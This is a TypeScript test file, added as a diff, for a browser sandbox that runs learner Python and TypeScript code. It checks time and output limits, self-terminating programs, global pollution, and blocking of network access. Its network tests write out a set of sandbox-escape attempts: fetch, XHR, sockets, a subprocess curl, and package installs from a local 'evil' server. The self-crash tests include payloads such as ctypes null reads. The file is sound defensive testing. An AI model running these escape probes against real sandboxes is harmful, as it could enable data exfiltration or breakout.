@@ -1,0 +1,221 @@
+/** The real runtimes in the real sandbox: what learner code of either language can do to it. */
+import type { Browser } from "playwright";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { Driver, launchBrowser } from "../browser/harness/driver.ts";
+import { startSite, type Site } from "../browser/harness/site.ts";
+import type { Language } from "../../src/trace/event.ts";
+import { startEvilServer, type EvilServer } from "./evil-server.ts";
+import { networkAttacks } from "./network-attacks.ts";
+
+let browser: Browser;
+let site: Site;
+let evil: EvilServer;
+let driver: Driver;
+
+beforeAll(async () => {
+  [browser, site, evil] = await Promise.all([launchBrowser(), startSite(), startEvilServer()]);
+  driver = await Driver.open(browser, site, await site.withRuntimes());
+});
+
+afterAll(async () => {
+  await Promise.all([browser.close(), site.close(), evil.close()]);
+});
+
+const hello: Readonly<Record<Language, string>> = { python: `print("hello")`, typescript: `console.log("hello");` };
+const loop: Readonly<Record<Language, string>> = { python: "while True: pass", typescript: "for (;;) {}" };
+const printLoop: Readonly<Record<Language, string>> = {
+  python: "for i in range(1_000_000):\n    print(i)",
+  typescript: "for (let i = 0; i < 1_000_000; i += 1) console.log(i);",
+};
+
+async function expectHello(language: Language): Promise<void> {
+  const { end, output } = await driver.run(language, hello[language]);
+  expect(end.state).toBe("finished");
+  expect(output).toBe("hello\n");
+}
+
+describe.each(["python", "typescript"] as const)("%s", (language) => {
+  test("runs, from files that were checked", async () => {
+    await driver.prepare(language);
+    await expectHello(language);
+  });
+
+  test("an endless loop is stopped within 100 ms, and the next run works", async () => {
+    const { end, stopMs } = await driver.run(language, loop[language], { stopAfterMs: 500 });
+    expect(end).toMatchObject({ state: "stopped", reason: "stop" });
+    expect(stopMs).toBeLessThan(100);
+    await expectHello(language);
+  });
+
+  test("an endless loop ends at its wall time, and what it printed is kept", async () => {
+    const source = `${hello[language]}\n${loop[language]}`;
+    const { end, output } = await driver.run(language, source, { limits: { wallMs: 1_000 } });
+    expect(end).toMatchObject({ state: "stopped", reason: "wall-time" });
+    expect(output).toBe("hello\n");
+  });
+
+  test("a million prints end at the limit of output, and the page stays responsive", async () => {
+    const { end, output, longestTaskMs } = await driver.run(language, printLoop[language]);
+    expect(end).toMatchObject({ state: "stopped", reason: "output" });
+    expect(output.startsWith("0\n1\n2\n")).toBe(true);
+    expect(output.length).toBeGreaterThan(900_000);
+    expect(longestTaskMs).toBeLessThan(200);
+    await expectHello(language);
+  });
+});
+
+/** Each prints `REACHED` when it gets an answer. Modules that are not there count as refused. */
+const pythonAttacks = (evilUrl: string, port: number): string => `
+def attempt(attack):
+    try:
+        attack()
+        print("REACHED", attack.__name__)
+    except BaseException as error:
+        print("refused", attack.__name__, type(error).__name__)
+
+def js_fetch():
+    import js
+    js.fetch("${evilUrl}/js-fetch")
+
+def js_xhr():
+    import js
+    request = js.XMLHttpRequest.new()
+    request.open("GET", "${evilUrl}/js-xhr", False)
+    request.send()
+
+def js_eval():
+    from pyodide.code import run_js
+    run_js("fetch('${evilUrl}/run-js')")
+
+def pyfetch():
+    from pyodide.http import pyfetch
+    pyfetch("${evilUrl}/pyfetch").send(None)
+
+def open_url():
+    from pyodide.http import open_url
+    open_url("${evilUrl}/open-url")
+
+def urllib():
+    from urllib.request import urlopen
+    urlopen("${evilUrl}/urllib", timeout=1).read()
+
+def http_client():
+    from http.client import HTTPConnection
+    connection = HTTPConnection("127.0.0.1", ${port}, timeout=1)
+    connection.request("GET", "/http-client")
+    connection.getresponse()
+
+def sockets():
+    import socket
+    with socket.create_connection(("127.0.0.1", ${port}), timeout=1) as connection:
+        connection.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
+        assert connection.recv(10)
+
+def udp():
+    import socket
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", ${port}))
+    assert False
+
+def streams():
+    import asyncio
+    async def main():
+        reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", ${port}), 1)
+    asyncio.run(main())
+
+def subprocess():
+    import subprocess
+    subprocess.run(["curl", "${evilUrl}/curl"], check=True)
+
+def loaded_modules():
+    import sys
+    module = next(m for name, m in list(sys.modules.items()) if hasattr(m, "XMLHttpRequest"))
+    request = module.XMLHttpRequest.new()
+    request.open("GET", "${evilUrl}/sys-modules", False)
+    request.send()
+
+def package_install():
+    import pyodide_js
+    pyodide_js.loadPackage("${evilUrl}/package.whl")
+
+def micropip():
+    import micropip
+    micropip.install("${evilUrl}/package.whl").send(None)
+
+for attack in (js_fetch, js_xhr, js_eval, pyfetch, open_url, urllib, http_client, sockets, udp, streams, subprocess,
+               loaded_modules, package_install, micropip):
+    attempt(attack)
+print("tried all")
+`;
+
+describe("network", () => {
+  test("Python reaches nobody", async () => {
+    evil.hits.length = 0;
+    const { output } = await driver.run("python", pythonAttacks(`http://127.0.0.1:${evil.port}`, evil.port));
+    await driver.page.waitForTimeout(500);
+    expect(output).toContain("tried all");
+    expect(output.split("\n").filter((line) => line.startsWith("REACHED"))).toEqual([]);
+    expect(evil.hits).toEqual([]);
+  });
+
+  test("TypeScript reaches nobody, also through what it can find beside its own names", async () => {
+    evil.hits.length = 0;
+    site.requests.length = 0;
+    // Timers are virtual here, so that "nothing came of it" comes at once; what is on its way is waited for below.
+    const source = `
+      const say = (text: unknown) => console.log(String(text));
+      const found = (0, eval)("globalThis");
+      for (const name of ["fetch", "WebSocket", "XMLHttpRequest", "Worker", "importScripts", "postMessage"]) {
+        try { say(name + " " + typeof new found[name]("http://127.0.0.1:${evil.port}/" + name)); } catch (error) { say(name + " refused"); }
+      }
+      new Function("say", ${JSON.stringify(`return (async () => { ${networkAttacks(evil.port, site.url)} })()`)})(say);
+      console.log("tried all");`;
+    const { output } = await driver.run("typescript", source);
+    await driver.page.waitForTimeout(500);
+    // The provider's address is answered by the mock model, inside the worker.
+    const through = output.split("\n").filter((line) => line.includes("GOT THROUGH"));
+    expect(through.filter((line) => !line.startsWith("fetch provider"))).toEqual([]);
+    expect(output).toContain("eval'd import");
+    expect(evil.hits).toEqual([]);
+    expect(site.requests.filter((url) => url.includes("from-worker"))).toEqual([]);
+    await expectHello("typescript");
+  });
+});
+
+/** A program that ends its own worker by every means it finds must not leave the page waiting. */
+const suicides: readonly (readonly [Language, string])[] = [
+  ["python", `print("hello")\nimport os\nos._exit(3)`],
+  ["python", `print("hello")\nimport sys\nsys.exit(3)`],
+  ["python", `print("hello")\nimport ctypes\nctypes.string_at(0)`],
+  ["python", `print("hello")\nimport sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()`],
+  ["python", `print("hello")\nx = [0] * (10**9)\ny = [0] * (10**9)`],
+  ["typescript", `console.log("hello"); (0, eval)("globalThis").close?.(); await new Promise(() => {});`],
+  ["typescript", `console.log("hello"); const f = (): void => f(); f();`],
+];
+
+describe("suicide", () => {
+  test.each(suicides)("%s: %s ends, says so, and the next run works", async (language, source) => {
+    const { end, output } = await driver.run(language, source, { limits: { wallMs: 5_000 } });
+    expect(end.state).toMatch(/^(failed|stopped)$/);
+    expect(output).toContain("hello");
+    await expectHello(language);
+  });
+});
+
+test("Python that aborts itself ends, and the next run works", async () => {
+  const { end } = await driver.run("python", `import os\nos.abort()`, { limits: { wallMs: 5_000 } });
+  expect(end.state).toMatch(/^(failed|stopped)$/);
+  await expectHello("python");
+});
+
+describe("pollution", () => {
+  test("a worker is never used twice", async () => {
+    await driver.run("python", `import builtins\nbuiltins.print = None`);
+    await expectHello("python");
+    await driver.run(
+      "typescript",
+      `Array.prototype.push = () => 0; Object.prototype.toString = () => "x"; console.log = () => {};`,
+      { limits: { wallMs: 1_000 } },
+    );
+    await expectHello("typescript");
+  });
+});
